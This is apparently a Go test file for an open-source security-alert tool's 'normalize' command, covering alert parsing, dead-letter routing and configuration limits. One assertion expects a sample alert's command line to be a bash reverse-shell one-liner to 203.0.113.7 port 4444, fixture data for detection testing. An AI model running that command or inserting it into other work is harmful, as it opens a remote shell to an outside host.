package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/opensoar/soar/internal/alert"
)

func TestNormalize(t *testing.T) {
	// A sample: the envelope, as JSON.
	out, errOut, code := soarIn(t, "", "normalize", "--sample", "compromised-host")
	if code != 0 {
		t.Fatalf("normalize --sample: exit %d: %s", code, errOut)
	}
	var a alert.Alert
	if err := json.Unmarshal([]byte(out), &a); err != nil {
		t.Fatalf("output is not one alert: %v\n%s", err, out)
	}
	if a.ID != "sas-inst-0a1b2c3d-4e5f-6789-abcd-ef0123456701-5c8e1f7a9b2d4c6e8f0a1b2c3d4e5f02" || a.Type != "reverse_shell" || a.Resource.InstanceID != "i-bp1sandboxweb01" || a.Labels["sas.event_id"] != "8123452" {
		t.Errorf("normalized alert = %+v", a)
	}
	if !strings.Contains(out, `"cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"`) {
		t.Errorf("output escapes HTML or lacks the command line:\n%s", out)
	}

	// A vendor payload on stdin with --subject.
	out, _, code = soarIn(t, `{"eventId":"e-1","eventName":"ConsoleSignin","sourceIpAddress":"203.0.113.7","userIdentity":{"type":"ram-user","userName":"alice"}}`,
		"normalize", "--subject", "alerts.actiontrail.abnormal_login", "-")
	if code != 0 || !strings.Contains(out, `"type": "abnormal_login"`) || !strings.Contains(out, `"user_name": "alice"`) {
		t.Errorf("normalize -: exit %d\n%s", code, out)
	}

	// A page of events: an array.
	page := `{"SuspEvents":[{"Id":1,"Name":"Reverse shell","Level":"serious"},{"Id":2,"Name":"Webshell","Level":"serious"}]}`
	out, _, code = soarIn(t, page, "normalize", "--subject", "alerts.sas.events", "-")
	var alerts []alert.Alert
	if code != 0 || json.Unmarshal([]byte(out), &alerts) != nil || len(alerts) != 2 {
		t.Errorf("normalize a page: exit %d, %d alerts\n%s", code, len(alerts), out)
	}
}

func TestNormalize_DeadLetter(t *testing.T) {
	tests := []struct {
		stdin, subject, reason string
	}{
		{`{"host": www}`, "alerts.waf.sqli", alert.ReasonInvalidJSON},
		{`{"level":"serious"}`, "alerts.sas.webshell", alert.ReasonMissingField},
		{`{"search_name":"x"}`, "alerts.splunk.notable", alert.ReasonUnknownSource},
		{`{"type":"x","severity":42}`, "alerts.soar.x", alert.ReasonInvalidField},
	}
	for _, tt := range tests {
		out, _, code := soarIn(t, tt.stdin, "normalize", "--subject", tt.subject, "-")
		if code != 1 || !strings.HasPrefix(out, "dead letter: soar.dlq."+tt.reason+"\nreason: "+tt.reason+"\ndetail: ") {
			t.Errorf("normalize %s: exit %d, output %q; want the %s dead letter", tt.stdin, code, out, tt.reason)
		}
	}
	if out, _, code := soarIn(t, "", "normalize", "--max-bytes", "100", "--sample", "crypto-miner"); code != 1 || !strings.Contains(out, "soar.dlq.too_large") {
		t.Errorf("normalize --max-bytes 100: exit %d, %q", code, out)
	}
}

// TestNormalize_Config: the dead-letter prefix and the size limit come
// from --config, as in soar ingest; --max-bytes still overrides the limit.
func TestNormalize_Config(t *testing.T) {
	file := filepath.Join(t.TempDir(), "soar.yaml")
	if err := os.WriteFile(file, []byte("nats:\n  dlq_prefix: acme.dlq\n  max_alert_bytes: 1024\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	big := `{"id":"big-1","source":"hids","type":"trojan","severity":4,"title":"` + strings.Repeat("x", 1200) + `"}`

	out, errOut, code := soarIn(t, big, "normalize", "--config", file, "--subject", "alerts.hids.trojan", "-")
	if code != 1 || !strings.HasPrefix(out, "dead letter: acme.dlq."+alert.ReasonTooLarge+"\n") {
		t.Errorf("normalize --config (max_alert_bytes 1024) of %d bytes: exit %d, output %q %s; want the acme.dlq.too_large dead letter", len(big), code, out, errOut)
	}
	// Other dead letters use the prefix too.
	out, _, code = soarIn(t, `{"host": www}`, "normalize", "--config", file, "--subject", "alerts.waf.sqli", "-")
	if code != 1 || !strings.HasPrefix(out, "dead letter: acme.dlq."+alert.ReasonInvalidJSON+"\n") {
		t.Errorf("normalize --config of bad JSON: exit %d, output %q", code, out)
	}
	// --max-bytes wins over the config.
	out, errOut, code = soarIn(t, big, "normalize", "--config", file, "--max-bytes", "4096", "--subject", "alerts.hids.trojan", "-")
	var a alert.Alert
	if code != 0 || json.Unmarshal([]byte(out), &a) != nil || a.ID != "big-1" {
		t.Errorf("normalize --config --max-bytes 4096: exit %d, output %q %s; want the alert big-1", code, out, errOut)
	}
	// Without --config: the built-in limit (1 MiB) and prefix.
	out, errOut, code = soarIn(t, big, "normalize", "--subject", "alerts.hids.trojan", "-")
	if code != 0 || json.Unmarshal([]byte(out), &a) != nil || a.ID != "big-1" {
		t.Errorf("normalize without --config: exit %d, output %q %s; want the alert big-1", code, out, errOut)
	}

	// A config soar ingest would refuse is refused here too.
	badFile := filepath.Join(t.TempDir(), "bad.yaml")
	if err := os.WriteFile(badFile, []byte("nats:\n  max_alert_bytes: 10\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, errOut, code := soarIn(t, "", "normalize", "--config", badFile, "--sample", "crypto-miner"); code == 0 || !strings.Contains(errOut, "nats.max_alert_bytes") {
		t.Errorf("normalize --config with max_alert_bytes 10: exit %d, stderr %q; want the config error", code, errOut)
	}
	if _, errOut, code := soarIn(t, "", "normalize", "--max-bytes", "-1", "--sample", "crypto-miner"); code != 2 {
		t.Errorf("normalize --max-bytes -1: exit %d, stderr %q; want a usage error", code, errOut)
	}
}
